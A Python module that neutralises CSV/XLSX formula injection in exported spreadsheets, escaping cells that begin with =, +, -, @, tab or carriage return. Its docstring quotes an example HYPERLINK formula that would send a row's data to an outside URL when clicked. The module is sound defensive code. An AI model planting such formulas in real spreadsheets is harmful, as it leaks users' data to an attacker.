"""Cells of the CSV and XLSX files the product writes: user text is always text.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or carriage return) as a formula: a case subject
``=HYPERLINK("http://…"&A1,"click")`` would become a live link that sends the row
away when clicked (CSV/formula injection, OWASP). Every text cell therefore goes
through here:

- CSV: such a value gets a leading ``'`` (:func:`csv_cell`), which spreadsheets
  show as text;
- XLSX: every string is written as a string cell (openpyxl ``data_type = "s"``,
  an inline string, never a ``<f>`` formula), and such a value also carries the
  ``quotePrefix`` style so editing the cell keeps it text (:func:`xlsx_row`).
Numbers, dates and ``None`` pass unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_LEADS)


def csv_cell(value: Any) -> Any:
    if looks_like_formula(value):
        return "'" + value
    return "" if value is None else value


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """``values`` as cells for ``sheet.append`` (write-only or normal sheets alike)."""
    row: list[Any] = []
    for value in values:
        if not isinstance(value, str):
            row.append(value)
            continue
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"  # openpyxl would make "=…" a formula
        if looks_like_formula(value):
            cell.quotePrefix = True
        row.append(cell)
    return row
